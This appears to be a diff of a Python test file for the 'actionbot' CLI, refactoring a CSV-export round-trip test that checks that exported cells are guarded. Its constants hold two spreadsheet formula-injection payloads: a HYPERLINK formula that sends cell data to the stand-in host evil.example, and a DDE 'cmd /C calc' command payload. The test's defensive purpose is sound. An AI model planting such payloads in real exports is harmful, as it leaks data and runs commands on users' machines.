@@ -8,7 +8,7 @@ import io
 
 from tests.conftest import TEAM
 from tests.helpers import all_text
-from tests.test_cli import actionbot, cli_env
+from tests.test_cli import actionbot, cli_env, exported_rows
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B3,"Click")'
 MEETING = "-2+3+cmd|' /C calc'!A0"
@@ -72,9 +72,7 @@ def test_cli_export_guards_and_importing_it_gives_the_same_actions_back(db_url, 
     assert back.returncode == 0, back.stderr
 
     def snapshot(team):
-        out = actionbot("export", "all", "--workspace", team, cwd=tmp_path, env=env).stdout
-        keep = ("title", "status", "owners", "due", "region", "group")
-        return sorted(tuple(r[k] for k in keep) for r in csv.DictReader(io.StringIO(out)))
+        return exported_rows(team, cwd=tmp_path, env=env)
 
     assert snapshot("T0COPY") == snapshot(TEAM)
     listed = actionbot("list", "all", "--workspace", "T0COPY", cwd=tmp_path, env=env).stdout
